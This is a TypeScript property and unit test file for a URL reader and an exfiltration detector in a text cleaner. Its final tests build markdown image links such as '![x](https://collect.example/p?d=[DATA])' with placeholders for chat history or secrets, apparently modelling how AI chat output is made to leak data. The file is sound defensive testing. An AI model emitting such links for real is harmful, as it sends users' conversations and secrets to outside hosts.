import fc from "fast-check";
import { expect, test } from "vitest";
import { clean } from "../clean.ts";
import { isAlarm } from "../finding.ts";
import { judgeCarriage } from "./carries-data.ts";
import { readAddress, shownAddress } from "./url.ts";

const PIECES = [
  ..."http https HTTP :// // a.example A.b .. - / ? # x=1 & %41 % @ u:p@ :80 ~ _ + ; {{x}} [ ] é www. /./".split(" "),
  "a-label-that-is-longer-than-most",
];
const address = fc
  .tuple(fc.constantFrom("https://", "http://a.example", ""), fc.array(fc.constantFrom(...PIECES), { maxLength: 9 }))
  .map(([start, pieces]) => start + pieces.join(""));

test("an address is read at one go as it is read with care", () => {
  // A tab is dropped by whoever reads with care, and keeps the quick look away.
  fc.assert(
    fc.property(address, (raw) => {
      expect(readAddress(raw)).toEqual(raw === "" ? readAddress("") : readAddress(`\t${raw}`));
    }),
    { numRuns: 5_000, seed: 8 },
  );
});

test("short parts are shown as they would be shown one by one", () => {
  const shownSlowly = (raw: string): string => {
    const { host, path } = readAddress(raw);
    const part = (text: string): string => (/^[A-Za-z0-9._~:-]{1,40}$/.test(text) ? text : "\u2026");
    const labels = host === "" ? [] : host.split(".").map(part);
    const parts = path.split("/").map((text) => (text === "" ? "" : part(text)));
    return labels.join(".").slice(0, 80) + parts.join("/").slice(0, 100);
  };
  fc.assert(
    fc.property(address, (raw) => {
      const read = readAddress(raw);
      if (read.host !== "") expect(shownAddress(read, () => false)).toBe(shownSlowly(raw));
    }),
    { numRuns: 5_000, seed: 8 },
  );
});

test.each([
  "?d={{chat}}",
  "?d=%7B%7Bchat%7B%7B",
  "?d=$" + "{chat}",
  "?d=$(cat)",
  "?d=<%",
  "?d=[DATA]",
  "?d=[the secret]",
  "?d={history}",
  "?d=%7bhistory%7d",
  "?d=<summary>",
  "/INSERT_DATA",
  "?YOUR-SECRETS",
  "/PASTE+THE+SUMMARY",
])("no hole is passed over by the look before it: %s", (rest) => {
  expect(judgeCarriage(readAddress(`https://a.example/p${rest}`))).toBe("template");
});

test("and none is seen where there is none", () => {
  expect(judgeCarriage(readAddress("https://a.example/insert_data?d=chat"))).toBe("none");
});

test.each([
  "https://api.example/v1/items?filter[name]=x&page[size]=10",
  "https://api.example/v1/items?fields%5Bmessage%5D=id,text",
  "https://shop.example/store?delivery=[slow]",
])("a field inside of another, and a value in brackets, are no holes: %s", (address) => {
  expect(clean(`See ${address} for more.`).findings.filter(({ severity }) => isAlarm(severity))).toEqual([]);
});

test.each(["[DATA]", "%5BDATA%5D", "[user", "[insert the e-mail]", "%3Cchat%20history%3E"])(
  "what a reader is to fill in is one, however it is written: %s",
  (hole) => {
    const alarms = clean(`![x](https://collect.example/p?d=${hole})`).findings.filter(({ severity }) =>
      isAlarm(severity),
    );
    expect(alarms.map(({ rule }) => rule)).toContain("markup.exfiltration");
  },
);
